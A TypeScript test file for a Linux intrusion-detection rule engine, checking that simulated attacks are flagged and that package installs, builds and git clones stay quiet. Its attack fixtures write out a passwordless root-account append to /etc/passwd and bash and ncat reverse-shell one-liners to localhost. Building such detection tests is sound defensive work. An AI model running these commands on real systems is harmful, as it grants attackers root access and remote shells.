/**
 * The bundled rules on events built as the kernel lays them out and decoded
 * and enriched by the real stages: the attacks the live tests perform must
 * be caught, and an ordinary package install, build and git clone must not
 * raise anything at medium or above.
 */
import test from 'node:test';
import assert from 'node:assert/strict';
import type { Verdict } from '../../src/model/event.js';
import { loadRules } from '../../src/rules/engine.js';
import { Host, O_APPEND, O_CLOEXEC, O_CREAT, O_RDWR, O_TRUNC, O_WRONLY } from '../helpers/rule-workload.js';

const engine = loadRules({ bundled: true, paths: [] });

function atLeastMedium(v: Verdict): string[] {
  return v.matches.filter((m) => m.severity !== 'low').map((m) => `${m.id}: ${m.message}`);
}

function newHost(): Host {
  const h = new Host();
  h.seed(1, 0, '/usr/lib/systemd/systemd', ['/sbin/init']);
  h.seed(50, 1, '/usr/bin/bash', ['-bash']);
  return h;
}

test('live attack: a write to /etc/passwd is caught', () => {
  const h = newHost();
  h.exec(400, 50, '/usr/bin/bash', ['bash', '-c', 'echo x::0:0::/:/bin/sh >> /etc/passwd']);
  const ev = h.open(400, '/etc/passwd', O_WRONLY | O_CREAT | O_APPEND | O_CLOEXEC);
  const v = engine.classify(ev);
  assert.deepEqual(v.matches.map((m) => m.id), ['account_file_modified']);
  assert.match(v.matches[0]!.message, /\/usr\/bin\/bash .*modified \/etc\/passwd via openat/);
});

test('live attack: a reverse shell to 127.0.0.1 is caught (the shell connects)', () => {
  const h = newHost();
  h.exec(410, 50, '/usr/bin/bash', ['bash', '-c', 'bash -i >& /dev/tcp/127.0.0.1/4444 0>&1']);
  const v = engine.classify(h.connect(410, [127, 0, 0, 1], 4444));
  assert.deepEqual(v.matches.map((m) => m.id), ['shell_connects_out']);
  assert.equal(v.matches[0]!.severity, 'critical');
  assert.match(v.matches[0]!.message, /connected to 127\.0\.0\.1:4444/);
});

test('live attack: a reverse shell through ncat -e is caught (shell started by netcat)', () => {
  const h = newHost();
  h.exec(415, 50, '/usr/bin/ncat', ['ncat', '127.0.0.1', '4444', '-e', '/bin/sh']);
  h.connect(415, [127, 0, 0, 1], 4444);
  const v = engine.classify(h.exec(416, 415, '/usr/bin/dash', ['/bin/sh'], '/root', 0, '/bin/sh'));
  assert.deepEqual(v.matches.map((m) => m.id), ['shell_spawned_by_netcat']);
});

test('live attack: an exec from /dev/shm is caught', () => {
  const h = newHost();
  const v = engine.classify(h.exec(420, 50, '/dev/shm/x', ['/dev/shm/x'], '/root', 1000));
  assert.deepEqual(v.matches.map((m) => m.id), ['exec_from_dev_shm']);
});

test('benign: apt/dpkg package install with maintainer scripts raises nothing at medium or above', () => {
  const h = newHost();
  h.exec(100, 50, '/usr/bin/apt-get', ['apt-get', 'install', '-y', 'foo']);
  h.exec(101, 100, '/usr/lib/apt/methods/http', ['/usr/lib/apt/methods/http']);
  h.setuid(101, [42, 42, 42]);
  h.connect(101, [127, 0, 0, 1], 80);
  h.open(100, '/var/log/apt/eipp.log.xz', O_WRONLY | O_CREAT | O_TRUNC);
  h.open(100, '/var/log/apt/history.log', O_WRONLY | O_CREAT | O_APPEND);
  h.exec(105, 100, '/usr/bin/perl', ['/usr/bin/perl', '-w', '/usr/sbin/dpkg-preconfigure', '--apt']);
  h.open(105, '/var/cache/debconf/config.dat-new', O_WRONLY | O_CREAT | O_TRUNC);
  h.exec(110, 100, '/usr/bin/dpkg', ['/usr/bin/dpkg', '--status-fd', '23', '--unpack', '/var/cache/apt/archives/foo.deb']);
  h.open(110, '/var/log/dpkg.log', O_WRONLY | O_CREAT | O_APPEND);
  h.exec(111, 110, '/usr/bin/dash', ['/bin/sh', '/var/lib/dpkg/tmp.ci/preinst', 'install'], '/', 0, '/var/lib/dpkg/tmp.ci/preinst');
  for (const f of ['/usr/bin/foo', '/etc/cron.daily/foo', '/lib/systemd/system/foo.service', '/etc/profile.d/foo.sh', '/etc/sudoers.d/foo', '/etc/init.d/foo']) {
    h.open(110, `${f}.dpkg-new`, O_WRONLY | O_CREAT | O_TRUNC);
    h.rename(110, `${f}.dpkg-new`, f);
  }
  h.chmod(110, '/usr/lib/foo/helper.dpkg-new', 0o4755);
  h.exec(120, 110, '/usr/bin/dash', ['/bin/sh', '/var/lib/dpkg/info/foo.postinst', 'configure', ''], '/', 0, '/var/lib/dpkg/info/foo.postinst');
  h.exec(121, 120, '/usr/bin/perl', ['/usr/bin/perl', '/usr/sbin/adduser', '--system', '--group', 'foo']);
  h.open(121, '/etc/shadow', O_CLOEXEC);
  h.exec(122, 121, '/usr/sbin/useradd', ['/usr/sbin/useradd', '-r', '-g', 'foo', 'foo']);
  h.open(122, '/etc/.pwd.lock', O_WRONLY | O_CREAT | O_CLOEXEC);
  for (const f of ['/etc/passwd', '/etc/shadow', '/etc/group', '/etc/gshadow']) {
    h.open(122, f, O_RDWR);
    h.open(122, `${f}+`, O_WRONLY | O_CREAT | O_TRUNC);
    h.rename(122, `${f}+`, f);
  }
  h.open(122, '/var/log/lastlog', O_RDWR);
  h.exec(123, 120, '/usr/bin/perl', ['/usr/bin/perl', '/usr/bin/deb-systemd-helper', 'enable', 'foo.service']);
  h.symlink(123, '/lib/systemd/system/foo.service', '/etc/systemd/system/multi-user.target.wants/foo.service');
  h.exec(124, 120, '/usr/bin/systemctl', ['systemctl', '--system', 'daemon-reload']);
  h.exec(125, 120, '/usr/bin/perl', ['/usr/bin/perl', '/usr/sbin/update-rc.d', 'foo', 'defaults']);
  h.symlink(125, '../init.d/foo', '/etc/rc2.d/S01foo');
  h.exec(126, 120, '/usr/bin/chmod', ['chmod', '0755', '/var/lib/foo']);
  h.chmod(126, '/var/lib/foo', 0o755);
  h.exec(130, 110, '/usr/sbin/ldconfig', ['/sbin/ldconfig']);
  h.open(130, '/etc/ld.so.cache~', O_WRONLY | O_CREAT | O_TRUNC);
  h.rename(130, '/etc/ld.so.cache~', '/etc/ld.so.cache');
  h.open(130, '/etc/ld.so.preload', O_CLOEXEC, -2);
  const loud = h.events.flatMap((ev) => atLeastMedium(engine.classify(ev)));
  assert.deepEqual(loud, []);
});

test('benign: a C build and an npm/node-gyp/tsc build in a /tmp build tree raise nothing at medium or above', () => {
  const h = newHost();
  const dir = '/tmp/ebpf-sensor-live-Ab12Cd/proj';
  h.exec(200, 50, '/usr/bin/dash', ['/bin/sh', './configure'], dir, 1000, './configure');
  h.open(200, `${dir}/conftest.c`, O_WRONLY | O_CREAT | O_TRUNC);
  h.exec(201, 200, '/usr/bin/gcc', ['gcc', '-o', 'conftest', 'conftest.c'], dir, 1000);
  h.exec(202, 201, '/usr/libexec/gcc/x86_64-linux-gnu/12/cc1', ['/usr/libexec/gcc/x86_64-linux-gnu/12/cc1', 'conftest.c', '-o', '/tmp/ccX1.s'], dir, 1000);
  h.open(202, '/tmp/ccX1.s', O_WRONLY | O_CREAT | O_TRUNC);
  h.exec(203, 201, '/usr/bin/x86_64-linux-gnu-as', ['as', '-o', '/tmp/ccY2.o', '/tmp/ccX1.s'], dir, 1000);
  h.open(203, '/tmp/ccY2.o', O_WRONLY | O_CREAT | O_TRUNC);
  h.unlink(201, '/tmp/ccX1.s');
  h.chmod(201, `${dir}/conftest`, 0o755);
  h.exec(204, 200, `${dir}/conftest`, ['./conftest'], dir, 1000, './conftest');
  h.exec(205, 50, '/usr/bin/make', ['make', '-j2'], dir, 1000);
  h.exec(206, 205, '/usr/bin/dash', ['/bin/sh', '-c', 'gcc -O2 -o hello hello.c'], dir, 1000, '/bin/sh');
  h.exec(207, 205, `${dir}/hello`, ['./hello', '--self-test'], dir, 1000, './hello');
  // npm install with a native addon, then tsc
  h.exec(210, 50, '/usr/bin/node', ['node', '/usr/bin/npm', 'install'], dir, 1000);
  h.connect(210, [127, 0, 0, 1], 4873);
  h.exec(211, 210, '/usr/bin/dash', ['sh', '-c', 'node-gyp rebuild'], `${dir}/node_modules/addon`, 1000, '/bin/sh');
  h.exec(212, 211, '/usr/bin/node', ['node', '/usr/lib/node_modules/npm/node_modules/node-gyp/bin/node-gyp.js', 'rebuild'], `${dir}/node_modules/addon`, 1000);
  h.exec(213, 212, '/usr/bin/python3.11', ['python3', 'gyp_main.py'], `${dir}/node_modules/addon`, 1000);
  h.exec(214, 212, '/usr/bin/make', ['make', 'BUILDTYPE=Release', '-C', 'build'], `${dir}/node_modules/addon`, 1000);
  h.exec(215, 214, '/usr/bin/g++', ['g++', '-shared', '-o', 'Release/addon.node'], `${dir}/node_modules/addon/build`, 1000);
  h.exec(216, 50, '/usr/bin/node', ['node', `${dir}/node_modules/.bin/tsc`, '-p', '.'], dir, 1000);
  h.open(216, `${dir}/dist/index.js`, O_WRONLY | O_CREAT | O_TRUNC);
  const loud = h.events.flatMap((ev) => atLeastMedium(engine.classify(ev)));
  assert.deepEqual(loud, []);
  // …and the build's own executions under /tmp are visible at low severity, for hunting.
  const low = h.events.flatMap((ev) => engine.classify(ev).matches.map((m) => m.id));
  assert.ok(low.includes('exec_from_tmp'));
});

test('benign: git clone raises nothing at medium or above', () => {
  const h = newHost();
  const dir = '/tmp/ebpf-sensor-live-Ab12Cd/clone';
  h.exec(300, 50, '/usr/bin/git', ['git', 'clone', 'http://127.0.0.1:8080/r.git', dir], '/tmp', 1000);
  h.exec(301, 300, '/usr/lib/git-core/git-remote-http', ['git-remote-http', 'origin', 'http://127.0.0.1:8080/r.git'], '/tmp', 1000);
  h.connect(301, [127, 0, 0, 1], 8080);
  h.exec(302, 300, '/usr/lib/git-core/git', ['/usr/lib/git-core/git', 'index-pack', '--stdin'], dir, 1000);
  h.open(302, `${dir}/.git/objects/pack/tmp_pack_abc`, O_RDWR | O_CREAT);
  h.rename(302, `${dir}/.git/objects/pack/tmp_pack_abc`, `${dir}/.git/objects/pack/pack-1.pack`);
  for (const f of ['.git/hooks/pre-commit.sample', '.git/config', 'README.md', '.bashrc', 'etc/passwd', 'scripts/install.sh']) {
    h.open(300, `${dir}/${f}`, O_WRONLY | O_CREAT | O_TRUNC);
  }
  h.chmod(300, `${dir}/.git/hooks/pre-commit.sample`, 0o755);
  const loud = h.events.flatMap((ev) => atLeastMedium(engine.classify(ev)));
  assert.deepEqual(loud, []);
});

test('setuid(0) by an exploit is caught; sudo is not', () => {
  const h = newHost();
  h.exec(500, 50, '/home/user/cve', ['./cve'], '/home/user', 1000);
  assert.deepEqual(engine.classify(h.setuid(500, [0, 0, 0])).matches.map((m) => m.id), ['setuid_root_unexpected']);
  h.exec(501, 50, '/usr/bin/sudo', ['sudo', 'id'], '/home/user', 1000);
  assert.equal(engine.classify(h.setuid(501, [0, 0, 0])).classification, 'normal');
});
